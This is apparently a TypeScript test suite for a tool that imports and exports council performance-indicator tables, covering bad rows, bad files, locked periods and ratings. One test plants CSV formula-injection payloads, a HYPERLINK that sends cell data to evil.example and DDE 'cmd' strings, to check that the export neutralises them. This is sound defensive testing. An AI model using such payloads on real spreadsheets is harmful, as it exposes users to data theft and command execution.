// Importing councils' indicator tables through the real kpi command, on SQLite and PostgreSQL:
// the tables of seeds 001 and 002 as CSV and XLSX give the figures the demo holds; a bad row
// refuses the whole file naming its line; files that are not tables are refused plainly; a
// second import changes nothing; monthly, cumulative and Goldilocks rows are rated as councils rate them.
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { IndicatorRecord } from "../../src/core/ports.ts";
import { prismaCatalogue } from "../../src/store/catalogue.ts";
import { prepareDatabase } from "../../src/store/open.ts";
import { freshDatabase, providers, type TestDatabase } from "../helpers/databases.ts";
import { root, runKpi } from "../helpers/run.ts";

const BARNET = "London Borough of Barnet";
const fixture = (name: string) => path.join(root, "tests/fixtures/import", name);
const scratch = mkdtempSync(path.join(os.tmpdir(), "kpi-import-"));
const file = (name: string, content: string | Buffer) => {
  const at = path.join(scratch, name);
  writeFileSync(at, content);
  return at;
};

/** The figures of every indicator of an organisation, as the read model gives them. */
async function figures(url: string, organisation: string) {
  const { database } = await prepareDatabase({ DATABASE_URL: url, loadDemoData: false });
  try {
    const records = (await prismaCatalogue(database.db).indicators({})).filter((r) => r.organisation === organisation);
    return Object.fromEntries(records.map((r) => [r.ref, shape(r)]));
  } finally {
    await database.close();
  }
}

const shape = (r: IndicatorRecord) => ({
  title: r.title,
  polarity: r.polarity,
  targets: r.targets.map((t) => `${t.period.label}: ${t.text}`).sort(),
  results: r.results.map((x) => `${x.period.label}: ${x.text} ${x.numerator ?? ""}/${x.denominator ?? ""} ${x.dotShortRecorded ?? ""} ${x.dotLongRecorded ?? ""}`).sort(),
});

/** Text Excel would run as a formula, written into the demo's AC/S4 (title, benchmark, targets), a comment and AC/S8's benchmark, and a negative target beside them. */
const FORMULAS = {
  title: '=HYPERLINK("http://evil.example/?"&A1,"Carers")',
  benchmark: "-cmd|' /C calc'!A0",
  comment: "@SUM(1+1)*cmd|' /C calc'!A0",
  target: "+2+3",
  alreadyQuoted: "'=1+1",
};

async function withFormulas(url: string) {
  const { database } = await prepareDatabase({ DATABASE_URL: url, loadDemoData: false });
  try {
    const db = database.db;
    const indicator = await db.indicator.findFirstOrThrow({ where: { ref: "AC/S4", organisation: { name: BARNET } } });
    await db.indicator.update({ where: { id: indicator.id }, data: { title: FORMULAS.title, benchmarkText: FORMULAS.benchmark } });
    const comment = await db.commentary.findFirstOrThrow({ where: { indicator: { organisation: { name: BARNET } }, periodId: { not: null } }, orderBy: { id: "desc" } });
    await db.commentary.update({ where: { id: comment.id }, data: { text: FORMULAS.comment } });
    const [first, second] = await db.target.findMany({ where: { indicatorId: indicator.id }, orderBy: { id: "asc" } });
    await db.target.update({ where: { id: first!.id }, data: { text: FORMULAS.target, value: null } });
    await db.target.update({ where: { id: second!.id }, data: { text: "-5%", value: -5 } });
    const other = await db.indicator.findFirstOrThrow({ where: { ref: "AC/S8", organisation: { name: BARNET } } });
    await db.indicator.update({ where: { id: other.id }, data: { benchmarkText: FORMULAS.alreadyQuoted } });
  } finally {
    await database.close();
  }
}

describe.each(providers)("importing on %s", (provider) => {
  let demo: TestDatabase;
  let empty: TestDatabase;
  const kpi = (target: TestDatabase, ...args: string[]) => runKpi(args, { DATABASE_URL: target.url, LOAD_DEMO_DATA: "false", LOG_LEVEL: "warn" });

  beforeAll(async () => {
    [demo, empty] = await Promise.all([freshDatabase(provider), freshDatabase(provider)]);
    for (const [target, loadDemoData] of [[demo, true], [empty, false]] as const) (await prepareDatabase({ DATABASE_URL: target.url, loadDemoData })).database.close();
  }, 120_000);
  afterAll(async () => Promise.all([demo?.drop(), empty?.drop()]));

  it("imports the tables of seeds 002 and 001, as CSV, to the figures the demo holds", async () => {
    // Oldest first, as the demo loads them: the Q2 report restates what Q1's said of CG/S17 and CG/S28.
    for (const name of ["barnet-cg-q1-2016-17.csv", "barnet-adults-q2-2016-17.csv"]) {
      const run = await kpi(empty, "import", fixture(name), "--organisation", BARNET);
      expect(run.code, run.stdout + run.stderr).toBe(0);
    }
    const [imported, held] = await Promise.all([figures(empty.url, BARNET), figures(demo.url, BARNET)]);
    expect(Object.keys(imported).sort()).toEqual(Object.keys(held).sort());
    expect(Object.keys(imported)).toHaveLength(45);
    expect(imported).toEqual(held);
  }, 120_000);

  it("gives the imported indicators the kind, unit and search words the demo's have: both write through one path", async () => {
    const derived = async (url: string) => {
      const { database } = await prepareDatabase({ DATABASE_URL: url, loadDemoData: false });
      try {
        const rows = await database.db.indicator.findMany({ where: { organisation: { name: BARNET } }, select: { ref: true, type: true, unit: true, searchText: true } });
        return Object.fromEntries(rows.map(({ ref, ...rest }) => [ref, rest]));
      } finally {
        await database.close();
      }
    };
    const [imported, held] = await Promise.all([derived(empty.url), derived(demo.url)]);
    expect(Object.values(held).filter((i) => i.unit).length).toBeGreaterThan(30);
    expect(Object.values(held).filter((i) => i.type === "CPI").length).toBeGreaterThan(10);
    expect(imported).toEqual(held);
  });

  it("changes nothing on importing the same table again, and says so", async () => {
    const run = await kpi(empty, "import", fixture("barnet-adults-q2-2016-17.csv"), "--organisation", "london borough of barnet");
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain("0 new, 0 updated, 19 unchanged.");
    // Reading the indicators as they stand sends one query at a time down the transaction's connection: pg has nothing to warn of.
    expect(run.stderr).not.toContain("Warning");
  });

  it("reports what a changed table would change in a dry run, and writes nothing", async () => {
    const changed = readFileSync(fixture("barnet-adults-q2-2016-17.csv"), "utf8").replace(/^(AC\/S8,[^\n]*?),53\.2%,/m, "$1,54.0%,");
    const before = await figures(empty.url, BARNET);
    const run = await kpi(empty, "import", file("changed.csv", changed), "--organisation", BARNET, "--dry-run");
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain("dry run: nothing written");
    expect(run.stdout).toContain("0 new, 1 updated, 18 unchanged (if imported).");
    expect(run.stdout).toContain("AC/S8 would be updated: Q2 2016/17 result: 54.0%");
    expect(await figures(empty.url, BARNET)).toEqual(before);
  });

  it.each(["csv", "xlsx"])("exports the demo's indicators as %s, text a spreadsheet would run as a formula too, and importing that changes nothing", async (format) => {
    await withFormulas(demo.url);
    const out = path.join(scratch, `${provider}-export.${format}`);
    const exported = await kpi(demo, "export", "--organisation", "barnet", "--out", out);
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stderr).toContain("Wrote 45 indicators of London Borough of Barnet");
    if (format === "csv") {
      // Each such text starts with ' in the CSV; a negative figure stays a number.
      const csv = readFileSync(out, "utf8");
      for (const text of Object.values(FORMULAS)) expect(csv).toContain(`'${text.replace(/"/g, '""')}`);
      const cells = (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?%?$/.test(c))).toEqual([]);
      expect(cells).toContain("-5%");
    }
    const before = await figures(demo.url, BARNET);
    const run = await kpi(demo, "import", out, "--organisation", "barnet");
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain("0 new, 0 updated, 45 unchanged.");
    expect(await figures(demo.url, BARNET)).toEqual(before);
    if (format === "csv") expect((await kpi(demo, "export", "--organisation", "barnet")).stdout.trimEnd()).toBe(readFileSync(out, "utf8").replace(/^\uFEFF/, "").trimEnd());
  });

  it("refuses a row that would change a published period, and still takes a file that leaves it as it is", async () => {
    const lock = await kpi(demo, "period", "lock", "Q2 2016/17", "--organisation", "barnet", "--as", "performance.team@example.org");
    expect(lock.code, lock.stderr).toBe(0);
    const exported = path.join(scratch, `${provider}-locked.csv`);
    await kpi(demo, "export", "--organisation", "barnet", "--out", exported);
    const unchanged = await kpi(demo, "import", exported, "--organisation", "barnet");
    expect(unchanged.stdout).toContain("0 new, 0 updated, 45 unchanged.");
    const changed = readFileSync(exported, "utf8").replace(/^(AC\/S8,.*?),53\.2%,/m, "$1,54.0%,");
    expect(changed).not.toBe(readFileSync(exported, "utf8"));
    const before = await figures(demo.url, BARNET);
    const run = await kpi(demo, "import", file(`${provider}-locked-changed.csv`, changed), "--organisation", "barnet");
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/line \d+, “AC\/S8”: Q2 2016\/17 is published for London Borough of Barnet/);
    expect(await figures(demo.url, BARNET)).toEqual(before);
  });
});

describe("importing on sqlite: workbooks, bad rows, bad files and the way figures accumulate", () => {
  let target: TestDatabase;
  const kpi = (...args: string[]) => runKpi(args, { DATABASE_URL: target.url, LOAD_DEMO_DATA: "false", LOG_LEVEL: "warn" });

  beforeAll(async () => {
    target = await freshDatabase("sqlite");
    await (await prepareDatabase({ DATABASE_URL: target.url, loadDemoData: false })).database.close();
  }, 60_000);
  afterAll(async () => target?.drop());

  it("refuses a table whose line 3 is wrong, naming it, and writes nothing", async () => {
    const csv = "Ref,Indicator,Polarity,2016/17 Target,Q1 2016/17 Result\nT/1,First,Bigger is Better,10,9\nT/2,Second,Sideways,10,9\nT/3,Third,Smaller is Better,10,9\n";
    const run = await kpi("import", file("bad.csv", csv), "--organisation", "Testshire");
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("line 3, Polarity, “Sideways”: Not a polarity");
    expect(run.stdout).toContain("Nothing was imported");
    expect(await figures(target.url, "Testshire")).toEqual({});
    // Told to, it imports the rows that are right and says which it left out.
    const skipping = await kpi("import", file("bad.csv", csv), "--organisation", "Testshire", "--skip-invalid");
    expect(skipping.code, skipping.stderr).toBe(0);
    expect(skipping.stderr).toContain("1 row left out");
    expect(Object.keys(await figures(target.url, "Testshire")).sort()).toEqual(["T/1", "T/3"]);
  });

  it("refuses the whole table when a new indicator lacks its title or polarity, naming each row, and writes nothing", async () => {
    const csv = "Ref,Indicator,Polarity,2016/17 Target,Q1 2016/17 Result\nN/1,First,Bigger is Better,10,9\nN/2,,Bigger is Better,10,9\nN/3,Third,,10,9\nN/4,Fourth,Smaller is Better,10,9\n";
    const run = await kpi("import", file("new-without.csv", csv), "--organisation", "Newshire");
    expect(run.code, run.stdout + run.stderr).toBe(2);
    expect(run.stderr).toContain("line 3, “N/2”: N/2 is new: it needs a title (an Indicator or Description column).");
    expect(run.stderr).toContain("line 4, “N/3”: N/3 is new: it needs a polarity (Bigger is Better, Smaller is Better, Goldilocks or Monitor).");
    expect(run.stdout).toContain("Nothing was imported");
    expect(await figures(target.url, "Newshire")).toEqual({});
  });

  it.each([
    ["random bytes named .xlsx", "noise.xlsx", Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919) % 251)), "is not an Excel workbook"],
    ["random bytes named .csv", "noise.csv", Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919) % 251)), "is not a text file"],
    ["an empty file", "empty.csv", "", "is empty"],
    ["a heading row only", "headings.csv", "Ref,Indicator,Polarity\n", "no rows under it"],
    ["a table without references", "norefs.csv", "Colour,Shape\nred,round\n", "No column holds the indicators' references"],
  ])("refuses %s with a plain message and no stack trace", async (_what, name, content, message) => {
    const run = await kpi("import", file(name, content), "--organisation", "Testshire");
    expect(run.code).toBe(2);
    expect(run.stdout + run.stderr).toContain(message);
    expect(run.stderr).not.toMatch(/\n\s+at /);
  });

  it("imports a workbook with a title row above the table, as the CSV does", async () => {
    const run = await kpi("import", fixture("barnet-adults-q2-2016-17.xlsx"), "--organisation", "Barnet from Excel");
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain("(sheet “Indicators”)");
    expect(run.stdout).toContain("19 new, 0 updated, 0 unchanged.");
    const csv = await kpi("import", fixture("barnet-adults-q2-2016-17.csv"), "--organisation", "Barnet from Excel");
    expect(csv.stdout).toContain("0 new, 0 updated, 19 unchanged.");
  });

  it("reads a workbook as it shows: merged service cells on every row, formulas as their results, dates as dates", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("Indicators");
    sheet.addRow(["Ref", "Indicator", "Polarity", "Service", "2016/17 Target", "Q3 2016/17 Result", "Comments"]);
    sheet.addRow(["W/1", "First", "Bigger is Better", "Adults & Communities", 0.6, 0.62, new Date(Date.UTC(2017, 0, 19))]);
    sheet.addRow(["W/2", "Second", "Bigger is Better", null, 0.5, { formula: "E3+0.05", result: 0.55 }, 42754]);
    sheet.addRow(["W/3", "Third", "Smaller is Better", null, 0.5, 0.4, null]);
    sheet.mergeCells("D2:D4");
    sheet.getColumn(5).numFmt = "0.0%";
    sheet.getColumn(6).numFmt = "0.0%";
    sheet.getCell("G3").numFmt = "dd/mm/yyyy";
    const at = path.join(scratch, "merged.xlsx");
    await workbook.xlsx.writeFile(at);

    const run = await kpi("import", at, "--organisation", "Sheetshire");
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stdout).toContain("3 new, 0 updated, 0 unchanged.");
    const card = async (ref: string) => JSON.parse((await kpi("ask", ref, "--json")).stdout);
    for (const ref of ["W/1", "W/2", "W/3"]) expect((await card(ref)).service).toBe("Adults & Communities");
    const second = await card("W/2");
    expect(second.latest).toMatchObject({ period: "Q3 2016/17", display: "55.0%" });
    expect(second.commentary).toMatchObject({ text: "19 Jan 2017" });
  });

  it("reads a quoted newline inside a cell as part of the cell, and still names the right line", async () => {
    const csv = 'Ref,Indicator,Polarity\nQ/1,"Two-line\ntitle",Bigger is Better\nQ/2,Second,Sideways\n';
    const run = await kpi("import", file("quoted.csv", csv), "--organisation", "Quoteshire");
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("line 4, Polarity, “Sideways”: Not a polarity");
  });

  it("refuses a table of more than 20,000 rows before reading it all, writing nothing", async () => {
    const csv = ["Ref,Indicator,Polarity", ...Array.from({ length: 20_001 }, (_, i) => `B/${i},Row ${i},Bigger is Better`)].join("\n");
    const run = await kpi("import", file("huge.csv", csv), "--organisation", "Hugeshire");
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("huge.csv has more than 20,000 rows");
    expect(await figures(target.url, "Hugeshire")).toEqual({});
  });

  it("rates monthly, cumulative and Goldilocks rows as councils do, each saying what it was compared with", async () => {
    const csv = [
      "No,Short Name,Aim,Annual Target,Latest Performance,DOT,Directorate",
      'H1,New homes completed [Cumulative],Maximise,"12,000","7,700 (Nov)",Up,Place',
      "H2,Days to process a claim [Monthly Snapshot],Minimise,20 days,23 days (Nov),Down,Resources",
      'H3,Rent collected,Goldilocks,95-98%,99% (Nov),Stable,Resources',
      'H4,Visitors to libraries [Cumulative YTD],Maximise,"10,000","4,120 (against target of 3,900) Nov",Up,Place',
    ].join("\n");
    const run = await kpi("import", file("monthly.csv", csv), "--organisation", "Monthshire", "--period", "2016/17");
    expect(run.code, run.stdout + run.stderr).toBe(0);
    const card = async (ref: string) => JSON.parse((await kpi("ask", ref, "--json")).stdout);
    const h1 = await card("H1");
    expect(h1.latest).toMatchObject({ period: "Nov 2016", display: "7,700", dotShortRecorded: "Up", rating: { level: "Green Amber", reason: "7,700 against 8,000 to date (two thirds of the 2016/17 target 12,000: a running total, declared cumulative)" } });
    const h2 = await card("H2");
    expect(h2.latest.rating).toMatchObject({ level: "Red", reason: "23 days against the annual target 20 days (2016/17; Nov 2016 has no target of its own; a snapshot, so compared with the year's target as it stands)" });
    const h3 = await card("H3");
    expect(h3.latest.rating).toMatchObject({ level: "Green Amber", reason: "99% against the annual target range 95-98% (2016/17; Nov 2016 has no target of its own; a rate, so compared with the year's target as it stands)" });
    const h4 = await card("H4");
    expect(h4.latest.rating).toMatchObject({ level: "Green", reason: "4,120 against 3,900" });
    expect(run.stdout).toContain("a month without a year is in 2016/17");
  });
});
